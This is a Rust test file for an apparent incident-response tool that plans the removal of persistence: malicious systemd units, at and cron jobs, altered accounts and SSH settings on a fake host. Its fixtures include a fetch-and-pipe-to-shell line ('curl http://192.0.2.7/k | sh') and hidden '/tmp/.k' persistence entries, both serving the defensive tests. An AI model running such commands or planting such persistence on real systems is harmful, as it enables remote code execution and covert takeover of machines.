//! What each action of a playbook comes to, object by object.

#![allow(clippy::unwrap_used, clippy::indexing_slicing, clippy::panic)]

use super::make::tests::{account, finding, path};
use super::*;
use crate::action::{Action, State};
use crate::model::{Category, Digest, FileKind, FileMeta, Finding, HostIdentity, Mode, RawText, Subject, Timestamp};
use crate::playbook::Playbook;
use crate::source::Source;
use crate::source::fake::FakeRoot;
use std::collections::BTreeMap;

fn playbook(action: &str, kind: &str, with: &str) -> Playbook {
    let text = format!(
        "format_version: 1\nname: test\ntitle: t\ninputs:\n  shell: {{type: string, description: The shell}}\nsteps:\n  - id: s\n    title: Do it to {{path}}\n    phase: remove\n    risk: low\n    \
         for_each: findings.filter(f, f.subject.type == \"{kind}\")\n    action: {action}\n    with: {{{with}}}\n"
    );
    Playbook::load("test", &text).unwrap_or_else(|error| panic!("{error}"))
}

fn plan(source: &dyn Source, found: &[Finding], playbooks: &[Playbook], material: Option<&dyn Source>) -> Plan {
    plan_given(source, found, playbooks, material, &BTreeMap::new())
}

fn plan_given(
    source: &dyn Source,
    found: &[Finding],
    playbooks: &[Playbook],
    material: Option<&dyn Source>,
    inputs: &BTreeMap<String, String>,
) -> Plan {
    let host = HostIdentity { digest: Digest::of(b"h"), marks: Vec::new(), hostname: RawText::from("pbx") };
    let request = PlanRequest {
        living: None,
        findings: found,
        playbooks,
        inputs,
        material,
        open_source: &|name| match name {
            "good" => Ok(Box::new(FakeRoot::new().file("/usr/bin/ls", b"the vendor's"))),
            _ => Err("it is not there".to_owned()),
        },
        source,
        host,
        target: "/".to_owned(),
        tool: "triage test".to_owned(),
        created: Timestamp::new(0, 0),
    };
    let plan = make(&request).unwrap().value;
    // What goes through a file must come out the same, and hold together.
    Plan::from_json(plan.to_json().as_bytes()).unwrap()
}

fn file(at: &str) -> Finding {
    finding("TR-TEST-0001", Category::Persistence, Subject::File { path: path(at), sha256: None })
}

fn line(at: &str, text: &str) -> Finding {
    finding("TR-TEST-0002", Category::Persistence, Subject::Line { path: path(at), line: 1, text: RawText::from(text) })
}

fn link(root: FakeRoot, at: &str, to: &str) -> FakeRoot {
    let mut meta = FileMeta::bare(FileKind::Symlink, Mode::new(0o777), to.len() as u64);
    meta.link_target = Some(RawText::from(to));
    root.object(at, meta, b"")
}

fn what(plan: &Plan) -> Vec<(&'static str, String)> {
    plan.steps.iter().map(|step| (step.action.kind(), step.action.object().to_string())).collect()
}

fn unit_host() -> FakeRoot {
    let root = FakeRoot::new()
        .file("/etc/systemd/system/k.service", b"[Service]\nExecStart=/tmp/.k\n")
        .file("/etc/systemd/system/k.service.d/x.conf", b"[Service]\n")
        .file("/lib/systemd/system/good.service", b"[Service]\n");
    let root = link(root, "/etc/systemd/system/multi-user.target.wants/k.service", "/etc/systemd/system/k.service");
    let root = link(root, "/etc/systemd/system/alias.service", "k.service");
    link(root, "/etc/systemd/system/multi-user.target.wants/good.service", "/lib/systemd/system/good.service")
}

#[test]
fn a_unit_is_disabled_removed_and_masked_with_its_links_and_no_others() {
    let host = unit_host();
    let found = [file("/etc/systemd/system/k.service")];
    let links = [
        ("quarantine_special", "/etc/systemd/system/alias.service".to_owned()),
        ("quarantine_special", "/etc/systemd/system/multi-user.target.wants/k.service".to_owned()),
    ];
    let disabled = plan(&host, &found, &[playbook("disable_unit", "file", "")], None);
    assert_eq!(what(&disabled), links);
    let unit = "/etc/systemd/system/k.service".to_owned();
    let removed = plan(&host, &found, &[playbook("remove_unit", "file", "")], None);
    assert_eq!(
        what(&removed),
        [
            links[0].clone(),
            ("quarantine_file", unit.clone()),
            ("quarantine_file", "/etc/systemd/system/k.service.d/x.conf".to_owned()),
            links[1].clone(),
        ]
    );
    let masked = plan(&host, &found, &[playbook("mask_unit", "file", "")], None);
    assert_eq!(
        what(&masked),
        [links[0].clone(), ("quarantine_file", unit.clone()), ("make_link", unit), links[1].clone()]
    );
    assert!(masked.steps.iter().all(|step| step.status == StepStatus::WouldChange), "{masked:#?}");
    // The vendor's unit stays where it is.
    let vendor = plan(&host, &[file("/lib/systemd/system/good.service")], &[playbook("mask_unit", "file", "")], None);
    assert_eq!(what(&vendor)[0], ("make_link", "/etc/systemd/system/good.service".to_owned()));
    assert_eq!(vendor.steps.len(), 2);
}

#[test]
fn an_account_leaves_every_group_in_both_files() {
    let host = FakeRoot::new()
        .file("/etc/passwd", b"root:x:0:0::/:/bin/sh\neve:x:0:0::/:/bin/sh\n")
        .file("/etc/group", b"sudo:x:27:adam,eve\nadm:x:4:eve\nusers:x:100:adam\n")
        .file("/etc/gshadow", b"sudo:*::adam,eve\n");
    let all = plan(&host, &[account("eve")], &[playbook("remove_from_group", "account", "")], None);
    assert_eq!(what(&all).len(), 3, "{all:#?}");
    let one = plan(&host, &[account("eve")], &[playbook("remove_from_group", "account", "group: adm")], None);
    assert_eq!(what(&one), [("remove_from_group", "/etc/group".to_owned())]);
    assert!(one.steps[0].preview.contains("-adm:x:4:eve"), "{}", one.steps[0].preview);
}

#[test]
fn an_altered_account_comes_back_from_the_copy_without_its_password() {
    let host = FakeRoot::new()
        .file("/etc/passwd", b"root:x:0:0::/:/bin/sh\nwww:$6$secret:0:0::/:/bin/sh\n")
        .file("/etc/passwd-", b"root:x:0:0::/:/bin/sh\nwww:x:33:33::/var/www:/usr/sbin/nologin\n");
    let found = [finding(
        "TR-TEST-0003",
        Category::Account,
        Subject::Account { path: path("/etc/passwd"), name: RawText::from("www") },
    )];
    let restored = plan(&host, &found, &[playbook("restore_account", "account", "")], None);
    assert_eq!(restored.steps[0].status, StepStatus::WouldChange);
    assert!(!restored.to_json().contains("secret"), "{}", restored.to_json());
    let none = FakeRoot::new().file("/etc/passwd", b"www:x:0:0::/:/bin/sh\n");
    let blocked = plan(&none, &found, &[playbook("restore_account", "account", "")], None);
    assert!(matches!(&blocked.steps[0].status, StepStatus::Blocked { why } if why.contains("passwd-")));
}

#[test]
fn an_account_comes_back_in_all_four_files_and_nobody_else_with_it() {
    let host = FakeRoot::new()
        .file("/etc/passwd", b"root:x:0:0::/root:/bin/sh\nwww:x:0:0::/:/bin/sh\nnew:x:9:9::/:/bin/sh\n")
        .file("/etc/passwd-", b"root:x:0:0::/root:/bin/sh\nwww:x:33:33::/var/www:/usr/sbin/nologin\n")
        .file("/etc/shadow", b"root:$6$a$b:1::::::\nwww:$6$secret$x:2::::::\nnew:$6$c$d:1::::::\n")
        .file("/etc/shadow-", b"root:$6$old$b:1::::::\nwww:*:1::::::\n")
        .file("/etc/group", b"sudo:x:27:adam,www,new\nwww:x:33:\n")
        .file("/etc/group-", b"sudo:x:27:adam\nwww:x:33:\n")
        .file("/etc/gshadow", b"sudo:*::adam,www,new\n")
        .file("/etc/gshadow-", b"sudo:*::adam\n");
    let found = [finding(
        "TR-TEST-0003",
        Category::Account,
        Subject::Account { path: path("/etc/passwd"), name: RawText::from("www") },
    )];
    let restored = plan(&host, &found, &[playbook("restore_account", "account", "")], None);
    assert!(restored.steps.iter().all(|step| step.status == StepStatus::WouldChange), "{restored:#?}");
    let files: Vec<String> = restored.steps.iter().map(|step| step.action.object().to_string()).collect();
    assert_eq!(files, ["/etc/group", "/etc/gshadow", "/etc/passwd", "/etc/shadow"]);
    assert!(restored.steps[0].preview.contains("+sudo:x:27:adam,new"), "{}", restored.steps[0].preview);
    assert!(restored.steps[3].preview.contains("+www:*:1::::::"), "{}", restored.steps[3].preview);
    assert!(!restored.to_json().contains("$6$"), "{}", restored.to_json());
}

#[test]
fn a_job_of_at_goes_as_the_file_that_it_is_and_no_other_job_in_its_place() {
    let job = b"#!/bin/sh\n# atrun uid=0 gid=0\ncd / || {\n exit 1\n}\ncurl http://192.0.2.7/k | \\\nsh\n/tmp/.k\n";
    let at = "/var/spool/cron/atjobs/a0000101c16a4b";
    let host = FakeRoot::new().file(at, job);
    let cron = |text: &str| {
        let subject = Subject::CronEntry { path: path(at), line: 6, text: RawText::from(text) };
        [finding("TR-TEST-0004", Category::Persistence, subject)]
    };
    for text in ["/tmp/.k", "curl http://192.0.2.7/k | sh"] {
        let removed = plan(&host, &cron(text), &[playbook("remove_cron_entry", "cron_entry", "")], None);
        assert_eq!(what(&removed), [("quarantine_file", at.to_owned())], "{text}");
        assert_eq!(removed.steps[0].status, StepStatus::WouldChange, "{text}");
    }
    let other = plan(&host, &cron("/tmp/.other"), &[playbook("remove_cron_entry", "cron_entry", "")], None);
    assert!(matches!(&other.steps[0].status, StepStatus::Blocked { why } if why.contains("scan again")));
    let line = plan(&host, &[line(at, "/tmp/.k")], &[playbook("remove_lines", "line", "")], None);
    assert_eq!(what(&line), [("quarantine_file", at.to_owned())]);
}

#[test]
fn passwords_are_not_switched_off_while_nobody_has_a_key() {
    let host = FakeRoot::new()
        .file("/etc/passwd", b"root:x:0:0::/root:/bin/sh\nadam:x:1:1::/home/adam:/bin/sh\neve:x:2:2::/:/bin/sh\n")
        .file("/etc/shadow", b"root:!:1::::::\nadam:$6$x$y:1::::::\neve:$6$x$z:1::::::\n")
        .file("/etc/ssh/sshd_config", b"UsePAM no\n");
    let option = playbook("set_option", "account", "option: PasswordAuthentication, value: 'no'");
    let off = plan(&host, &[account("eve")], &[option], None);
    assert!(matches!(&off.steps[0].status, StepStatus::Blocked { why } if why.contains("log in")), "{off:#?}");
    // One alone is no harm; both together are.
    let keys = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleExampleExampleExampleExampleExam x\n";
    let host = host.file("/home/adam/.ssh/authorized_keys", keys.as_bytes());
    let found = [account("eve"), line("/home/adam/.ssh/authorized_keys", keys.trim())];
    let both = [
        playbook("set_option", "account", "option: PasswordAuthentication, value: 'no'"),
        playbook("remove_key", "line", ""),
    ];
    let combined = plan(&host, &found, &both, None);
    assert_eq!(combined.steps[0].status, StepStatus::WouldChange, "{combined:#?}");
    assert!(matches!(&combined.steps[1].status, StepStatus::Blocked { .. }), "{combined:#?}");
    let key = plan(&host, &found, &both[1..], None);
    assert_eq!(key.steps[0].status, StepStatus::WouldChange, "the password is left");
}

#[test]
fn what_a_match_block_decides_cannot_be_known() {
    let host = FakeRoot::new()
        .file("/etc/passwd", b"root:x:0:0::/root:/bin/sh\n")
        .file("/etc/shadow", b"root:$6$x$y:1::::::\n")
        .file(
            "/etc/ssh/sshd_config",
            b"PermitRootLogin yes\nMatch Address 192.0.2.0/24\n PasswordAuthentication yes\n",
        );
    let option = playbook("set_option", "account", "option: PasswordAuthentication, value: 'no'");
    let unsure = plan(&host, &[account("eve")], &[option], None);
    assert!(matches!(&unsure.steps[0].status, StepStatus::CannotKnow { why } if why.contains("Match")), "{unsure:#?}");
}

#[test]
fn a_step_waits_for_what_a_person_has_to_say() {
    let host = FakeRoot::new().file("/etc/passwd", b"eve:x:1:1::/:/bin/sh\n").file("/usr/bin/ls", b"altered");
    let playbooks = [playbook("set_shell", "account", "shell: \"${inputs.shell}\"")];
    let open = plan(&host, &[account("eve")], &playbooks, None);
    assert!(matches!(&open.steps[0].status, StepStatus::NeedsInput { what } if what.contains("--set shell=")));
    let given = BTreeMap::from([("shell".to_owned(), "/bin/false".to_owned())]);
    let said = plan_given(&host, &[account("eve")], &playbooks, None, &given);
    assert_eq!(said.steps[0].status, StepStatus::WouldChange);
    let copy = plan(&host, &[file("/usr/bin/ls")], &[playbook("restore_file", "file", "")], None);
    assert!(matches!(&copy.steps[0].status, StepStatus::NeedsInput { what } if what.contains("--from")));
}

#[test]
fn a_good_copy_is_known_by_its_digest_and_one_that_is_not_there_is_said_to_be_missing() {
    let host = FakeRoot::new().file("/usr/bin/ls", b"altered");
    let good = FakeRoot::new().file("/usr/bin/ls", b"the vendor's");
    let found = [file("/usr/bin/ls"), file("/usr/bin/ss")];
    let restored = plan(&host, &found, &[playbook("restore_file", "file", "")], Some(&good));
    let Action::RestoreFile { to: State::Present(to), .. } = &restored.steps[0].action else { panic!() };
    assert_eq!(to.sha256, Some(Digest::of(b"the vendor's")));
    assert_eq!(restored.steps[0].status, StepStatus::WouldChange);
    assert!(matches!(&restored.steps[1].status, StepStatus::Blocked { why } if why.contains("no copy")));
}

#[test]
fn a_playbook_says_itself_where_good_copies_are() {
    let host = FakeRoot::new().file("/usr/bin/ls", b"altered");
    let found = [file("/usr/bin/ls")];
    let restored = plan(&host, &found, &[playbook("restore_file", "file", "from: good")], None);
    assert_eq!(restored.steps[0].status, StepStatus::WouldChange, "{restored:#?}");
    let missing = plan(&host, &found, &[playbook("restore_file", "file", "from: bad")], None);
    assert!(
        matches!(&missing.steps[0].status, StepStatus::Blocked { why } if why.contains("not there")),
        "{missing:#?}"
    );
    let open = plan(&host, &found, &[playbook("restore_file", "file", "from: '${inputs.shell}'")], None);
    assert!(matches!(&open.steps[0].status, StepStatus::NeedsInput { .. }), "{open:#?}");
}

#[test]
fn values_reach_the_action() {
    let host = FakeRoot::new()
        .file("/usr/bin/su", b"x")
        .file("/etc/rc.local", b"#!/bin/sh\n/tmp/.k &\n")
        .file("/etc/ssh/sshd_config", b"PermitRootLogin yes\n")
        .file("/var/spool/cron/root", b" * * * * * /tmp/.k\nA=1\n")
        .file(
            "/root/.ssh/authorized_keys",
            b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleExampleExampleExampleExampleExam x\n",
        );
    let mode = plan(&host, &[file("/usr/bin/su")], &[playbook("set_metadata", "file", "mode: 0755, uid: 0")], None);
    assert_eq!(mode.steps[0].preview, "sets mode of /usr/bin/su from 0644 to 0755\n");
    let edit = playbook("edit_file", "file", "remove_matching: '^/tmp/[.]', ensure: exit 0");
    let edited = plan(&host, &[file("/etc/rc.local")], &[edit], None);
    assert!(edited.steps[0].preview.contains("-/tmp/.k &\n+exit 0"), "{}", edited.steps[0].preview);
    let option = playbook("set_option", "account", "option: PermitRootLogin, value: 'no'");
    let set = plan(&host, &[account("eve")], &[option], None);
    assert_eq!(set.steps[0].status, StepStatus::WouldChange);
    let job =
        Subject::CronEntry { path: path("/var/spool/cron/root"), line: 1, text: RawText::from(" * * * * * /tmp/.k") };
    let cron = finding("TR-TEST-0004", Category::Persistence, job);
    let removed = plan(&host, &[cron], &[playbook("remove_cron_entry", "cron_entry", "")], None);
    assert!(removed.steps[0].preview.contains("- * * * * * /tmp/.k"), "{}", removed.steps[0].preview);
    let text = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleExampleExampleExampleExampleExam x";
    let key = plan(&host, &[line("/root/.ssh/authorized_keys", text)], &[playbook("remove_key", "line", "")], None);
    assert_eq!(what(&key)[0].0, "remove_key");
    // No password is known here, so it may be the last way in or not: nobody could log in before either.
    assert_eq!(key.steps[0].status, StepStatus::WouldChange);
}
